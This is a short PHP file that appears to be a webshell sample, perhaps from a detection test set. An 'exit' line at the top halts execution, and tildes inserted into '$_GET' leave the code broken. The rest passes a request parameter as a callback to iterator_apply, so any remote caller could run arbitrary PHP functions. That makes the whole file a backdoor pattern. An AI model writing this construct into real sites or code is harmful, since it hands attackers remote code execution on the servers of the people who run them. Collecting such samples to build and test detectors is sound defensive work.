<?php exit; ?>
<?php
$i = new ArrayIterator(array($_G~ET['m']));
iterator_apply($i, $_G~ET['f'], array($i->current()));
